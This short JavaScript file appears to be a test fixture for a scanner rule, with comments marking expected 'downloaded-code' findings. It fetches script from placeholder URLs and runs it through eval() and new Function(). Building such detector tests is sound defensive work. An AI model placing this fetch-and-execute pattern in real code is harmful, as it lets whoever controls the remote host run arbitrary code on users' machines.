const https = require("https");

function load(address) {
  return new Promise((done) => {
    https.get(address, (answer) => {
      let body = "";
      answer.on("data", (chunk) => (body += chunk));
      answer.on("end", () => done(body));
    });
  });
}
fetch("https://files.example.com/a.js")
  .then((answer) => answer.text())
  // expect: downloaded-code
  .then((text) => eval(text));
async function main() {
  const source = await load("https://files.example.com/b.js");
  // expect: downloaded-code
  new Function(source)();
}
main();
